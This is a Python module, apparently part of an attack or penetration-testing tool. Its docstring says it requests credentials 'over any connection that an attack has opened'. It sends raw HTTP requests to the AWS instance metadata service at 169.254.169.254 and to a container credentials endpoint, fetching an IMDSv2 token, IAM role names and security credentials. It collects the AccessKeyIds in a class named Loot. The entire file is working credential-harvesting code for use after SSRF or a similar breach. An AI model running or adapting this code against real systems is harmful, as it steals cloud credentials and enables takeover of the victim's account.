"""Requests credentials as SDKs do, over any connection that an attack has opened, and records the answers."""
import json
import re

LIST = "/latest/meta-data/iam/security-credentials/"
INFO = "/latest/meta-data/iam/info"


def request(method, path, headers=()):
    lines = ["%s %s HTTP/1.1" % (method, path), "Host: 169.254.169.254", "User-Agent: attack", *headers]
    if method == "PUT":
        lines.append("Content-Length: 0")
    return ("\r\n".join(lines) + "\r\n\r\n").encode()


def whole_answer(data):
    """(status, body) of the first answer in `data`; None while it is incomplete."""
    head, separator, rest = data.partition(b"\r\n\r\n")
    status = re.match(rb"HTTP/1\.1 (\d{3})", head)
    if not separator or status is None:
        return None
    length = re.search(rb"(?i)\ncontent-length: *(\d+)", head)
    size = int(length.group(1)) if length else 0
    return (int(status.group(1)), rest[:size].decode("latin1")) if len(rest) >= size else None


class Loot:
    def __init__(self):
        self.rounds = self.opened = self.bytes = 0
        self.tokens, self.roles, self.credentials, self.notes = [], [], [], []
        self.answers = {}
        self.text = []

    def done(self):
        return len(self.credentials) > 0

    def note(self, text):
        if text not in self.notes and len(self.notes) < 20:
            self.notes.append(text)

    def _ask(self, exchange, what, *args):
        answer = exchange(request(*args))
        key = "%s: %s" % (what, "nothing" if answer is None else answer[0])
        self.answers[key] = self.answers.get(key, 0) + 1
        if answer is None:
            return None
        self.bytes += len(answer[1])
        if len(self.text) < 2_000:
            self.text.append(answer[1])
        return answer[1] if answer[0] == 200 else None

    def _credentials(self, body):
        try:
            found = json.loads(body)
            if "AccessKeyId" in found:
                self.credentials.append(found["AccessKeyId"])
        except (TypeError, ValueError):
            pass

    def imds(self, exchange):
        """`exchange(bytes)` returns (status, body), or None without an answer."""
        token = self._ask(exchange, "token", "PUT", "/latest/api/token", ["X-aws-ec2-metadata-token-ttl-seconds: 60"])
        if token is not None:
            self.tokens.append(token)
        headers = [] if token is None else ["X-aws-ec2-metadata-token: " + token]
        names = self._ask(exchange, "roles", "GET", LIST, headers)
        for name in (names or "").split():
            self.roles.append(name)
            self._credentials(self._ask(exchange, "credentials", "GET", LIST + name, headers))
        info = self._ask(exchange, "info", "GET", INFO, headers)
        if info is not None and "InstanceProfileArn" in info:
            self.roles.append(info)

    def container_credentials(self, exchange):
        self._credentials(self._ask(exchange, "container credentials", "GET", "/v1/credentials"))

    def ask(self, api, exchange):
        (self.imds if api == "imds" else self.container_credentials)(exchange)
